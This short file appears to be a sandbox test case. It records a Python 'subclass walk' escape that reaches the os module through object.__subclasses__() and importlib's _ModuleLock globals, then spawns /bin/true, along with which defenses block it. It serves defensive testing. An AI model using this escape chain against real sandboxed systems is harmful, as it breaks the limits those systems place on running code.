# attack: subclass walk
# stops: restrictedpython: "__class__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# the class of an API object to object, then importlib's _ModuleLock and its sys
for c in Directory("/").__class__.__mro__[-1].__subclasses__():
    if c.__name__ == "_ModuleLock":
        os = c.__init__.__globals__["sys"].modules["os"]
        print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
